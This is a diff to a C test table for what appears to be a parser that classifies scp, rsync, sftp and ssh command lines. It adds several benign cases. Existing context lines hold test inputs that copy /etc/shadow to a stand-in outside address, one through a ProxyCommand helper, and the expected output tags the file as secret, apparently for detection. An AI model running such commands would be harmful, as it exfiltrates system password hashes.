@@ -226,7 +226,16 @@ static const TransferCase transfer_cases[] = {
 	{"/usr/bin/scp", {NULL}, "scp -o ProxyCommand=/tmp/x /etc/shadow 203.0.113.9:%h",
 		"scp: client out, out | local /etc/shadow (secret) | host 203.0.113.9 | remote %h | helper /tmp/x | options proxy_command=/tmp/x"},
 	{"/usr/bin/rsync", {NULL}, "rsync -e ssh -o HostName=nas /etc/shadow 203.0.113.9:",
-		"rsync: client out, out | local /etc/shadow (secret) | host nas | remote . | others 203.0.113.9 | options remote_shell=ssh, host_name=nas, host_alias=203.0.113.9"}
+		"rsync: client out, out | local /etc/shadow (secret) | host nas | remote . | others 203.0.113.9 | options remote_shell=ssh, host_name=nas, host_alias=203.0.113.9"},
+	/* the line of what became the utility */
+	{"/usr/bin/sftp", {NULL}, "nice -n 5 sftp -P 22 u@h",
+		"sftp: client, unknown | user u | host h | port 22"},
+	{"/usr/bin/ssh", {"sudo", "-u", "bob", "ssh", "h", "scp", "-t", "x"}, NULL,
+		"ssh: client out, out | host h | remote x | options carries=scp"},
+	{"/usr/bin/rsync", {NULL}, "RSYNC_PASSWORD=x env A=1 rsync -a a h::m",
+		"rsync: client out, out | local a (data) | host h | remote m | options recursive, daemon"},
+	{"/usr/bin/scp", {NULL}, "nice a h:b",
+		"scp: client out, out | local a (data) | host h | remote b"}
 };
 
 #define TRANSFER_CASES (sizeof(transfer_cases) / sizeof(transfer_cases[0]))
